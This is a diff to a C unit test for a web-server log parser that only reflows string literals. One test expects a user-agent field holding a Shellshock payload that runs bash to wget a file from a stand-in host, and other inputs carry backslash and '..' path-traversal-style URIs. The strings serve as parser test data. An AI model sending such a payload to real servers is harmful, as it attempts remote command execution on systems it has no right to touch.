@@ -176,16 +176,19 @@ TEST(parse_weblog_escaped_quotes_in_user_agent)
              TR_OK);
     CHECK_STR(val(&w, "cs-user-agent"), "() { :;}; /bin/bash -c \"wget http://x/y\"");
     /* backslashes in the target: Apache writes \\ for one */
-    CHECK_EQ(wl_parse(&w, "10.1.2.3 - - [12/Mar/2020:07:03:01 +0000] \"GET /cewolf/?img=\\\\logger.zip "
+    CHECK_EQ(wl_parse(&w, "10.1.2.3 - - [12/Mar/2020:07:03:01 +0000] "
+                          "\"GET /cewolf/?img=\\\\logger.zip "
                           "HTTP/1.1\" 200 1024"),
              TR_OK);
     CHECK_STR(val(&w, "cs-uri"), "/cewolf/?img=\\logger.zip");
     /* a backslash that is not an escape stays */
-    CHECK_EQ(wl_parse(&w, "10.1.2.3 - - [12/Mar/2020:07:03:01 +0000] \"GET /a\\..\\b HTTP/1.1\" 200 1"),
+    CHECK_EQ(wl_parse(&w, "10.1.2.3 - - [12/Mar/2020:07:03:01 +0000] "
+                          "\"GET /a\\..\\b HTTP/1.1\" 200 1"),
              TR_OK);
     CHECK_STR(val(&w, "cs-uri"), "/a\\..\\b");
     /* an empty user agent is an empty string, not null */
-    CHECK_EQ(wl_parse(&w, "10.1.2.3 - - [12/Mar/2020:07:03:01 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" "
+    CHECK_EQ(wl_parse(&w, "10.1.2.3 - - [12/Mar/2020:07:03:01 +0000] "
+                          "\"GET / HTTP/1.1\" 200 1 \"-\" "
                           "\"\""),
              TR_OK);
     CHECK_STR(val(&w, "cs-user-agent"), "");
